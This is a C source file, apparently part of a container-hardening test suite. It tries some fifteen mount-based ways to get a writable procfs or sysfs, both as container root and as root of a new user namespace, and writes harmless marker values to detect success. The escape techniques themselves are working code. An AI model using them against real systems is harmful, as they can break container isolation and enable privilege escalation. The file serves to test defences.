/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Ways to a writable procfs or sysfs by mounting, as root of the container and as root of
 * a new user namespace. All in a mount namespace of the attacker's own.
 */
#include "attack.h"
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* <sys/mount.h> and <linux/mount.h> do not agree */
int mount(const char *source, const char *target, const char *type, unsigned long flags, const void *data);
int umount2(const char *target, int flags);
#define BIND 4096
#define REMOUNT 32
#define PRIVATE (1 << 18 | 16384)
#define DETACH 2

#define TTL "ipv4/ip_default_ttl"
#define PLACE "/tmp/place"

static int private_mounts(void)
{
	if (unshare(CLONE_NEWNS) < 0)
		return errno;
	/* not back to whoever shares the mounts */
	mount(NULL, "/", NULL, PRIVATE, NULL);
	mkdir(PLACE, 0700);
	return 0;
}

static int write_ttl(int directory, const char *path, const char *value)
{
	int fd = openat(directory, path, O_WRONLY | O_CLOEXEC);

	return fd < 0 ? errno : refused(write(fd, value, strlen(value)));
}

/* The lock need not be a mount: then the file says what happens. */
static int remount(void)
{
	int error = private_mounts();

	if (error)
		return error;
	if (mount(NULL, "/proc/sys", NULL, REMOUNT | BIND, NULL) < 0 && errno != EINVAL)
		return errno;
	return put("/proc/sys/net/" TTL, "91");
}

static int unmount(void)
{
	int error = private_mounts();

	if (error)
		return error;
	if (umount2("/proc/sys", DETACH) < 0 && errno != EINVAL)
		return errno;
	return put("/proc/sys/net/" TTL, "92");
}

static int fresh_proc(void)
{
	int error = private_mounts();

	if (!error)
		error = refused(mount("proc", PLACE, "proc", 0, NULL));
	return error ? error : put(PLACE "/sys/net/" TTL, "93");
}

static int fresh_sysfs(void)
{
	int error = private_mounts();

	if (!error)
		error = refused(mount("sysfs", PLACE, "sysfs", 0, NULL));
	return error ? error : put(PLACE "/class/net/" DEVICE "/mtu", "1463");
}

/* Not recursive: what is mounted over /proc/sys stays behind. */
static int uncover(void)
{
	int error = private_mounts();

	if (!error)
		error = refused(mount("/proc", PLACE, NULL, BIND, NULL));
	return error ? error : put(PLACE "/sys/net/" TTL, "94");
}

static int clone_tree(void)
{
	int fd = syscall(SYS_open_tree, AT_FDCWD, "/proc", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);

	return fd < 0 ? errno : write_ttl(fd, "sys/net/" TTL, "95");
}

static int fsopen_proc(void)
{
	int context = syscall(SYS_fsopen, "proc", FSOPEN_CLOEXEC), fd;

	if (context < 0 || syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0) < 0)
		return errno;
	fd = syscall(SYS_fsmount, context, FSMOUNT_CLOEXEC, 0);
	return fd < 0 ? errno : write_ttl(fd, "sys/net/" TTL, "96");
}

static int set_attributes(void)
{
	struct mount_attr a = { .attr_clr = MOUNT_ATTR_RDONLY };
	int error = private_mounts();

	if (error)
		return error;
	if (syscall(SYS_mount_setattr, AT_FDCWD, "/proc/sys", 0, &a, sizeof a) < 0 && errno != EINVAL)
		return errno;
	return put("/proc/sys/net/" TTL, "97");
}

/* Root of a new user namespace, with a pid namespace for a procfs of its own. */
static int as_new_root(int (*run)(void))
{
	unsigned uid = geteuid(), gid = getegid();
	char map[64];

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0)
		return errno;
	put("/proc/self/setgroups", "deny");
	snprintf(map, sizeof map, "0 %u 1", uid);
	put("/proc/self/uid_map", map);
	snprintf(map, sizeof map, "0 %u 1", gid);
	put("/proc/self/gid_map", map);
	return in_child(run);
}

static int new_root_remount(void) { return as_new_root(remount); }
static int new_root_unmount(void) { return as_new_root(unmount); }
static int new_root_proc(void) { return as_new_root(fresh_proc); }
static int new_root_sysfs(void) { return as_new_root(fresh_sysfs); }
static int new_root_uncover(void) { return as_new_root(uncover); }
static int new_root_clone(void) { return as_new_root(clone_tree); }
static int new_root_fsopen(void) { return as_new_root(fsopen_proc); }

const struct attack mount_attacks[] = {
	{ "REMOUNT_PROC_SYS", remount, 0, { 0 } },
	{ "UMOUNT_PROC_SYS", unmount, 0, { 0 } },
	{ "FRESH_PROC", fresh_proc, 0, { 0 } },
	{ "FRESH_SYSFS", fresh_sysfs, 0, { 0 } },
	{ "UNCOVER_PROC_SYS", uncover, 0, { 0 } },
	{ "OPEN_TREE_PROC", clone_tree, 0, { 0 } },
	{ "FSOPEN_PROC", fsopen_proc, 0, { 0 } },
	{ "MOUNT_SETATTR", set_attributes, 0, { 0 } },
	{ "NEWUSER_REMOUNT_PROC_SYS", new_root_remount, 0, { 0 } },
	{ "NEWUSER_UMOUNT_PROC_SYS", new_root_unmount, 0, { 0 } },
	{ "NEWUSER_FRESH_PROC", new_root_proc, 0, { 0 } },
	{ "NEWUSER_FRESH_SYSFS", new_root_sysfs, 0, { 0 } },
	{ "NEWUSER_UNCOVER_PROC_SYS", new_root_uncover, 0, { 0 } },
	{ "NEWUSER_OPEN_TREE_PROC", new_root_clone, 0, { 0 } },
	{ "NEWUSER_FSOPEN_PROC", new_root_fsopen, 0, { 0 } },
	{ NULL, NULL, 0, { 0 } }
};
